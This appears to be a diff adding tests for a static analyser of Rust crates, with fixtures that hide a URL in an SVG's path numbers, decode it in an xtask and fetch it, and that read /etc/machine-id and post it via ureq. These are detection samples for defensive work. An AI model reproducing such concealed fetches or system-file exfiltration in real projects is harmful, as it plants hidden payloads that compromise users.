@@ -715,3 +715,55 @@ fn dial() { for peer in peers() { connect(peer); } }
     assert [(r.text, r.how) for r in found.revealed] == [
         ("203.0.113.9,198.51.100.7", "decoded by peers() of this crate, run on its constants")
     ]
+
+
+def test_a_payload_kept_in_a_data_file_of_the_crate_is_read_and_decoded() -> None:
+    # the numbers of an image's path data are the bytes of a URL; the decoder reads the
+    # file through the manifest's folder, like a binary run by cargo would
+    url = "https://stage.example/cli"
+    svg = '<svg><path class="s" d="' + " ".join(f"L{b} {b}" for b in url.encode()) + '"/></svg>'
+    source = """
+use std::path::{Path, PathBuf};
+fn root() -> PathBuf { Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf() }
+fn strokes() -> Vec<String> {
+    let svg = std::fs::read_to_string(root().join("assets/logo.svg")).unwrap_or_default();
+    svg.split("d=\\"").skip(1).map(|p| {
+        let d = p.split('"').next().unwrap_or("");
+        let pts: Vec<u8> = d.split(' ').step_by(2).filter_map(|n| n.trim_start_matches('L').parse().ok()).collect();
+        String::from_utf8_lossy(&pts).to_string()
+    }).collect()
+}
+fn fetch() { let s = strokes(); let _ = ureq::get(&s[0]).call(); }
+"""
+    files = {
+        "Cargo.toml": b"[workspace]\n",
+        "assets/logo.svg": svg.encode(),
+        "xtask/Cargo.toml": b"[package]\nname = 'xtask'\n",
+        "xtask/src/main.rs": source.encode(),
+    }
+    found = unit_flows({"xtask/src/main.rs": source.encode()}, "xtask", resources=files)
+    assert url in [r.text for r in found.revealed]
+    assert [f.action for f in found.flows] == ["contact"]
+
+
+def test_files_outside_the_crate_are_the_outside_world() -> None:
+    source = """
+fn key() -> String {
+    let raw = std::fs::read("/etc/machine-id").unwrap_or_default();
+    String::from_utf8(raw.iter().map(|b| b ^ 0x20).collect()).unwrap_or_default()
+}
+fn send() { let _ = ureq::post(&key()).call(); }
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert found.revealed == []
+
+
+def test_text_split_where_a_closure_says() -> None:
+    source = """
+const RAW: &str = "104-116:116;112.115";
+fn word() -> String {
+    let bytes: Vec<u8> = RAW.split(|c: char| !c.is_ascii_digit()).filter_map(|n| n.parse().ok()).collect();
+    String::from_utf8(bytes).unwrap()
+}
+"""
+    assert run(source, "word()") == "https"
